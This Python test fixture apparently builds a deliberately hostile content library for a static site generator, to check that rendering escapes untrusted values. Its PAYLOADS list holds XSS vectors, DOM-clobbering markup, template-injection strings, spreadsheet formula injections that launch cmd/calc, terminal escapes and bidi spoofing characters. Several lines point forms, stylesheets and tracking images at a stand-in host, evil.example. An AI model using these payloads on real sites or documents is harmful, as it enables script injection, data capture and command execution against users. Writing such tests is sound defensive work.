"""A library of posts that try everything, in every place that a value can come from."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

from site_folder import canvas_text

# What acts where it is taken for markup, an address, a formula, a template or a name.
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=a><button>Go</button></form>",
    "<form id=forms name=body><input name=querySelector><img name=getElementById></form>",
    "<a id=search name=search href=x></a><img name=currentScript><p id=results class=card></p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>over all</p>",
    "<img src=https://evil.example/t.gif><video src=https://evil.example/v autoplay></video>",
    "<img srcset='https://evil.example/t.gif 1x' src=x><input type=image src=https://evil.example/>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=javascript:alert(1)>click</a> <a href='&#106;avascript:alert(1)'>click</a>",
    "<a href=https://evil.example/ target=_blank ping=https://evil.example/ rel=opener>a</a>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#x6A;avascript:alert(1))",
    "[d](data:text/html,<script>alert(1)</script>) [e](vbscript:x) <javascript:alert(1)>",
    "[f][x] ![g](javascript:alert(1)) ![h](https://evil.example/t.gif)\n\n[x]: javascript:alert(1)",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %} {{ config }}",
    "${alert(1)} <%= 7 * 7 %> #{7*7} __proto__ constructor",
    '=HYPERLINK("https://evil.example/")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "a\u202egpj.exe \u2066hidden\u2069 \u200b\ufeff",
    "\u2028alert(1)\u2029",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
    "<plaintext><listing><textarea><title>",
    "<p title='</p><script>alert(1)</script>'>a</p>",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    "```html\n<script>alert(1)\n```",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=x> | [a](javascript:x) |",
    "[^n]\n\n[^n]: <img src=x onerror=alert(1)> [a](javascript:alert(1))",
    "<audio/src/onerror=alert(1)><body onload=alert(1)><marquee onstart=alert(1)>",
]


def lined(text: str) -> str:
    """A text as YAML takes it in double quotes."""
    made = json.dumps(text, ensure_ascii=True)
    return made.replace("\\ufeff", "").replace("\\u001b", "").replace("\\u0007", "")


def post(number: int, payloads: Sequence[str]) -> str:
    """Return a post that has one of the payloads in each of its fields and sections."""

    def nth(place: int) -> str:
        return payloads[(number + place) % len(payloads)]

    front = "\n".join(
        (
            f"title: {lined(f'{nth(0)} {number}')}",
            f"company: {lined(nth(1))}",
            f"industry: {lined(nth(2))}",
            f"region: {lined(nth(3))}",
            f"summary: {lined(nth(4))}",
            f"tags: [{lined(nth(5))}, shared]",
            f"as_of: {2000 + number % 20}",
            "facts:",
            f"  - {{name: {lined(nth(6))}, value: 12, unit: {lined(nth(7))}, source: s}}",
            f"  - {{name: {lined(nth(8))}, value: {lined(nth(9))}}}",
            "sources:",
            f"  - {{id: s, title: {lined(nth(10))}, publisher: {lined(nth(11))},",
            f"     url: {lined('https://example.org/' + nth(12))}}}",
        )
    )
    keys = ("customer_segments", "value_propositions", "channels", "customer_relationships")
    more = ("revenue_streams", "key_resources", "cost_structure")
    texts = {key: f"Words.\n\n{nth(13 + n)}\n" for n, key in enumerate((*keys, *more))}
    extra = " ".join(nth(21).split())
    return f"{canvas_text('x', front, **texts)}\n## {extra}\n\n{nth(22)}\n"


CONFIG = f"""
title = {json.dumps(PAYLOADS[1])}
description = {json.dumps(PAYLOADS[2])}
base_url = "https://example.org"
neighbours = 1

[[comparisons]]
title = {json.dumps(PAYLOADS[5])}
slugs = ["post-0", "post-1"]
text = {json.dumps(" ".join(PAYLOADS[:12]))}
"""


def library(folder: Path, raw_html: str = "sanitize") -> None:
    """Write content and configuration of the hostile library into a folder."""
    (folder / "content").mkdir(parents=True)
    for number in range(len(PAYLOADS)):
        (folder / f"content/post-{number}.md").write_text(post(number, PAYLOADS), "utf-8")
    for number, name in enumerate(("<img src=x onerror=alert(1)>", "a' onclick='alert(1)", "=1+1")):
        safe = name.replace("/", "")
        (folder / f"content/{safe}.md").write_text(canvas_text(f"Named {number}"), "utf-8")
        (folder / f"content/{safe}.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    text = f"![{PAYLOADS[2]}](<{safe}.png> '{PAYLOADS[1]}')"
    (folder / "content/image.md").write_text(canvas_text("Image", channels=text), "utf-8")
    config = f"{CONFIG}\n[markdown]\nraw_html = {json.dumps(raw_html)}\n"
    (folder / "ninefold.toml").write_text(config.lstrip(), "utf-8")
